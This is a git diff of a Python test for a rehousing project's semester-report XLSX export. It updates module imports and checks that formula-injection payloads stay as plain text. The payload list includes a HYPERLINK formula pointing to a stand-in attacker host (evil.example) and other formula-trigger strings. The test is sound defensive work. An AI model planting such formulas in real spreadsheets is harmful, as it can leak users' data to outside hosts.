@@ -20,7 +20,8 @@ from openpyxl import load_workbook
 
 from relogement.platform.values import PersonalData
 from relogement.projections import anru_export, build_runner
-from relogement.projections import rapport_semestriel as rs
+from relogement.projections import report_output as ro
+from relogement.projections import semester_report as rs
 from relogement.simulation import sample
 from relogement.web.importer import template_csv, template_xlsx
 
@@ -87,7 +88,7 @@ def _texts(cells) -> set[str]:
 def test_the_semestrial_report_xlsx_keeps_payloads_as_text(story):
     w, runner, _ = story
     report = rs.build(runner.engine, w.project_id, 2026, 1)
-    cells = _check_xlsx(rs.render_xlsx(report))
+    cells = _check_xlsx(ro.render_xlsx(report))
     texts = _texts(cells)
     # "Dossiers ouverts" (open cases, by reference) and "Relogements" (commune d'accueil).
     for payload in ('=HYPERLINK("http://evil.example/?r","ref")', "+1+1", "-2+3", "@SUM(A1)"):
